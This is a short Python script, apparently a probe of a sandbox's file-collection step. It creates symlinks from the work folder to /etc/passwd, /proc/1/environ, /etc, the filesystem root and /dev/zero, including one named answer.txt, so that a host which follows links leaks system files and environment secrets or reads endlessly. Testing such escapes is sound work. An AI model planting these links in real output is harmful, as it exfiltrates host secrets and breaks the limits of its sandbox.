"""Links that lead out of the work folder, for a host that follows them when it takes files out."""

import os

for n, target in enumerate(
    ("/etc/passwd", "/proc/1/environ", "/proc/self/root/etc/passwd", "/", "..", "/dev/zero", "leak")
):
    os.symlink(target, f"leak-{n}")
os.symlink("/etc", "folder")
os.symlink("/etc/passwd", "leak")
os.symlink("/dev/zero", "answer.txt")
print("held")
